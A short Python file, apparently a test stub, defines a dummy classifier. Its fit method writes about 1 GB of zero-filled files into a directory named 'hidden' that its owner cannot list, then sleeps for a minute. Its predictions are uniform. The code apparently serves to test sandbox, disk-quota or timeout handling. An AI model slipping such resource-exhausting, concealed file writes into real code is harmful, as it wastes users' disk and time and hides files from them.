import os
import time

import numpy as np


class Classifier:
    def fit(self, X, y):
        os.mkdir("hidden", 0o300)
        for i in range(100):
            with open(f"hidden/{i}", "wb") as file:
                file.write(bytes(10_000_000))
        time.sleep(60)

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
